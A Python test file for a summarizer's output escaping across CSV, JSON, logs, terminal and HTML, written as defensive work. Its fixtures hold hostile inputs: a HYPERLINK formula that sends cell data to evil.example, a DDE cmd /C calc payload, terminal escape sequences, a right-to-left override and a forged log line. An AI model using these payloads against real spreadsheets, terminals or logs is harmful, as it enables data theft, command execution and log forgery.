"""One escaping policy for every output: CSV, JSON, logs, terminal and HTML.

A hostile corpus (a spreadsheet formula as a quote, escape sequences and C1 controls in a
headline, a right-to-left override in a speaker's name, U+2028 in a summary) goes through
every writer. Each must show the data as text: CSV cells cannot run as formulas and hold no
raw control character, JSON holds them only as escapes, log lines show them escaped, the
terminal shows the override escaped and both HTML pages isolate it.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from pathlib import Path
from typing import Any

import httpx2
import openai
import pyarrow.parquet as pq
import pytest
from rich.console import Console
from typer.testing import CliRunner

from summarizer import ArticleSummary, Summarizer
from summarizer._escape import csv_cell, html_isolated, log_text, safe_json, terminal_text
from summarizer._runs._batch import Article
from summarizer._runs._openai_batch import collect_batch
from summarizer._runs._results import json_line
from summarizer._views._render import render_summary
from summarizer._views._report import summary_to_html
from summarizer.cli import app
from summarizer.corpus import Corpus
from summarizer.corpus._tables import TABLES
from tests.fake_batch_api import OUTPUT_FILE, FakeBatchAPI
from tests.scenarios import TEST_API_KEY

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click me")'
TITLE = "\x1b]0;pwned\x07\x1b[2J"
"""Retitles the terminal window, then clears the screen."""
RLO = "\u202e"
NAME = f"Dmitry {RLO}ovokseP"
"""A speaker's name that a terminal or a browser would show reversed after the override."""
ARTICLE_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXT = f'- Moscow. Dmitry Peskov said: "{FORMULA}". He added nothing.'
TERMINAL_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What no terminal output may hold (U+2028 is printable text there)."""
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
"""What no CSV cell or log line may hold raw (tab and newline may stay)."""


def hostile_summary() -> ArticleSummary:
    start = TEXT.index(FORMULA)
    data: dict[str, Any] = {
        "headline": f"+1 Kremlin{TITLE} says no\x9b31m\u2028",
        "summary": "Line one\u2028line two\x85 and a C1 control.",
        "speakers": [{"name": NAME, "aliases": ["Peskov"], "role": "-spokesman"}],
        "quotes": [
            {
                "speaker": NAME,
                "kind": "direct",
                "text": FORMULA,
                "span": {"start": start, "end": start + len(FORMULA)},
            }
        ],
        "proposed_meetings": [
            {
                "participants": [NAME, "Olaf Scholz"],
                "status": "proposed",
                "evidence": ["He added nothing."],
            }
        ],
        "stances": [
            {"holder": NAME, "target": "Olaf Scholz", "polarity": "oppose", "evidence": "added"}
        ],
    }
    return ArticleSummary.model_validate({**data, "article_text": TEXT})


@pytest.fixture
def results(tmp_path: Path) -> Path:
    summary = hostile_summary().model_dump(mode="json", exclude={"meta"})
    record = {
        "id": ARTICLE_ID,
        "status": "ok",
        "summary": summary,
        "meta": {"source": "-2+3 Tass", "url": "https://evil.example/\x1b[2J"},
    }
    path = tmp_path / "results.jsonl"
    path.write_text(json_line(record) + "\n", encoding="utf-8")
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# -- CSV: formulas inert, controls shown, an opt-out for programs -----------------------------


def test_a_formula_quote_exported_to_csv_is_inert(results: Path, tmp_path: Path) -> None:
    out = tmp_path / "csv"
    run = CliRunner().invoke(app, ["export", str(results), "-f", "csv", "-o", str(out)])
    assert run.exit_code == 0, run.output
    [quote] = read_csv(out / "quotes.csv")
    assert quote["text"] == "'" + FORMULA
    assert quote["article_id"] == "'" + ARTICLE_ID
    [article] = read_csv(out / "articles.csv")
    assert article["headline"] == "'+1 Kremlin\\x1b]0;pwned\\x07\\x1b[2J says no\\x9b31m\\u2028"
    assert article["source"] == "'-2+3 Tass" and article["text"].startswith("'- Moscow.")
    assert article["summary"] == "Line one\\u2028line two\\x85 and a C1 control."
    [speaker] = [row for row in read_csv(out / "speakers.csv") if row["id"] == "dmitry-ovoksep"]
    assert speaker["name"] == "Dmitry \\u202eovokseP"
    assert json.loads(speaker["roles"]) == ["-spokesman"]  # a list cell starts with "["


def test_csv_cells_hold_no_raw_control_character(results: Path, tmp_path: Path) -> None:
    Corpus.from_results(results).write_tables(tmp_path, "csv")
    for name in TABLES:
        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8")
        assert not RAW_CONTROL.search(text.replace("\r\n", "\n")), (name, text)


def test_the_csv_opt_out_keeps_the_data_as_it_is(results: Path, tmp_path: Path) -> None:
    out = tmp_path / "raw"
    args = ["export", str(results), "-f", "csv", "-o", str(out), "--no-csv-escape"]
    run = CliRunner().invoke(app, args)
    assert run.exit_code == 0, run.output
    [quote] = read_csv(out / "quotes.csv")
    [article] = read_csv(out / "articles.csv")
    assert quote["text"] == FORMULA and article["text"] == TEXT
    assert article["text"][int(quote["start"]) : int(quote["end"])] == FORMULA
    assert article["headline"] == hostile_summary().headline
    corpus = Corpus.from_results(results)
    corpus.write_tables(tmp_path / "py", "csv", csv_escape=False)
    assert read_csv(tmp_path / "py" / "quotes.csv")[0]["text"] == FORMULA
    corpus.write_tables(tmp_path / "pq", "parquet")  # Parquet keeps the data too
    assert pq.read_table(tmp_path / "pq" / "quotes.parquet").to_pylist()[0]["text"] == FORMULA


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\\x0d=1+1"),  # shown escaped, so no longer a formula start
        ("a = b", "a = b"),
        ("line\nbreak\ttab", "line\nbreak\ttab"),
        (
            "esc\x1b[31m bel\x07 nul\x00 del\x7f nel\x85",
            "esc\\x1b[31m bel\\x07 nul\\x00 del\\x7f nel\\x85",
        ),
        (f"a{RLO}b\u2066c\u2028d", "a\\u202eb\\u2066c\\u2028d"),
        ("lone \ud800", "lone \\ud800"),
        ("Zoë “quoted” 😀 \u200f", "Zoë “quoted” 😀 \u200f"),  # a mark (RLM) stays
    ],
)
def test_csv_cell(value: str, cell: str) -> None:
    assert csv_cell(value) == cell


# -- JSON: every --json output escapes as summarize --json ----------------------------------


def test_corpus_json_has_no_raw_c1_or_line_separator(results: Path) -> None:
    run = CliRunner().invoke(app, ["corpus", str(results), "--json"])
    assert run.exit_code == 0, run.output
    assert not re.search("[\x7f-\x9f\u2028\u2029]", run.stdout), repr(run.stdout)
    assert RLO not in run.stdout and "\\u202e" in run.stdout and "\\u2028" in run.stdout
    data = json.loads(run.stdout)  # escaped, not removed: the values are the data
    assert data["articles"][0]["headline"] == hostile_summary().headline
    assert data["people"][0]["name"] == NAME


def test_json_escapes_keep_the_value() -> None:
    value = {"k": f"a\x1b\x85\u2028\u2029{RLO}\u2069\ud800 z"}
    text = safe_json(json.dumps(value, ensure_ascii=False))
    assert not RAW_CONTROL.search(text) and json.loads(text) == value


# -- logs: data in a log line is text --------------------------------------------------------


class HostileFileAPI(FakeBatchAPI):
    """A Batch API whose output file id holds escape sequences, its file a line of junk."""

    FILE_ID = f"{OUTPUT_FILE}{TITLE}"

    def _batch(self, status: str) -> dict[str, Any]:
        data = super()._batch(status)
        if status == "completed":
            data["output_file_id"] = self.FILE_ID
        return data

    def handle(self, request: httpx2.Request) -> httpx2.Response:
        if request.method == "GET" and request.url.path.endswith("/content"):
            return httpx2.Response(200, content=b"not json\x1b[2J\n")
        return super().handle(request)


def test_the_batch_api_log_line_shows_the_escape_sequence_escaped(
    caplog: pytest.LogCaptureFixture,
) -> None:
    api = HostileFileAPI(polls_before_done=0)
    client = openai.OpenAI(
        api_key=TEST_API_KEY, http_client=httpx2.Client(transport=httpx2.MockTransport(api.handle))
    )
    caplog.set_level(logging.WARNING, logger="summarizer")
    article = Article(id="a", text="Some text.")
    [result] = list(collect_batch(Summarizer(client=client), "batch_curated_1", [article]))
    assert result.error is not None  # its line was junk: no result for it
    [line] = [r.getMessage() for r in caplog.records if "is not JSON" in r.getMessage()]
    assert "\x1b" not in line and "\x07" not in line
    assert f"{OUTPUT_FILE}\\x1b]0;pwned\\x07\\x1b[2J line 1" in line
    assert "\x1b" not in caplog.text


def test_a_log_line_for_an_article_id_shows_escape_and_newline_escaped(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, logger="summarizer")
    logger = logging.getLogger("summarizer")
    ident = "a1\x1b[31m\nINFO forged line"
    logger.info("article %s: %d chunks in %.1fs", ident, 3, 1.5)
    logger.info("article %(id)s left out", {"id": ident})
    try:
        raise ValueError(f"bad id {ident}")
    except ValueError:
        logger.exception("failed %r", ident)
    lines = caplog.text.splitlines()
    assert "article a1\\x1b[31m\\x0aINFO forged line: 3 chunks in 1.5s" in lines[0]
    assert "article a1\\x1b[31m\\x0aINFO forged line left out" in lines[1]
    assert "failed 'a1\\x1b[31m\\nINFO forged line'" in lines[2]  # repr's own escape
    assert "ValueError: bad id a1\\x1b[31m\\x0aINFO forged line" in caplog.text
    assert not [line for line in lines if line.startswith("INFO forged")]
    assert not RAW_CONTROL.search(caplog.text)


def test_log_text_shows_every_control_character() -> None:
    assert log_text("a\tb\r\nc\x00\x85\u2028" + RLO) == "a\\x09b\\x0d\\x0ac\\x00\\x85\\u2028\\u202e"


# -- bidi controls: escaped in the terminal, isolated in HTML --------------------------------


def test_a_bidi_override_in_a_name_is_shown_escaped_in_the_terminal(results: Path) -> None:
    assert terminal_text(NAME) == "Dmitry \\u202eovokseP"
    out = io.StringIO()
    render_summary(hostile_summary(), Console(file=out, width=200, color_system=None))
    shown = out.getvalue()
    assert "Dmitry \\u202eovokseP" in shown and not TERMINAL_CONTROL.search(shown)
    run = CliRunner().invoke(app, ["corpus", str(results)])
    assert run.exit_code == 0, run.output
    assert "Dmitry \\u202eovokseP" in run.output and not TERMINAL_CONTROL.search(run.output)


def assert_isolated(html: str) -> None:
    """Every bidi control of the page sits inside a balanced FSI ... PDI run."""
    assert f"\u2068{NAME}\u202c\u2069" in html
    outside = re.sub("\u2068[^\u2068\u2069]*\u2069", "", html)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", outside)


def test_a_bidi_override_in_a_name_is_isolated_in_both_html_pages(results: Path) -> None:
    report = summary_to_html(hostile_summary())
    assert_isolated(report)
    assert 'data-label="\u2068\u202eovokseP\u202c\u2069"' in report  # the pill in the article
    page = Corpus.from_results(results).to_html()
    assert_isolated(page)
    for html in (report, page):
        assert re.search(r"\.sr-name, [^{]*\{ unicode-bidi: isolate; \}", html)


@pytest.mark.parametrize(
    ("value", "isolated"),
    [
        ("no controls", "no controls"),
        (f"a{RLO}b", f"\u2068a{RLO}b\u202c\u2069"),
        (f"a{RLO}b\u202c c", f"\u2068a{RLO}b\u202c c\u2069"),
        # A closer without its opener would end the isolate early: it is dropped.
        (f"\u2069{RLO}evil", f"\u2068{RLO}evil\u202c\u2069"),
        (f"\u202cx{RLO}", f"\u2068x{RLO}\u202c\u2069"),
        # A PDI closes the isolate it ends and the runs opened inside it.
        (f"\u2067{RLO}x\u2069y", f"\u2068\u2067{RLO}x\u2069y\u2069"),
        (f"\u2067x{RLO}", f"\u2068\u2067x{RLO}\u202c\u2069\u2069"),
        # A PDF inside an isolate cannot close the embedding outside it.
        ("\u202bx\u2066\u202c", "\u2068\u202bx\u2066\u2069\u202c\u2069"),
    ],
)
def test_html_isolated(value: str, isolated: str) -> None:
    assert html_isolated(value) == isolated
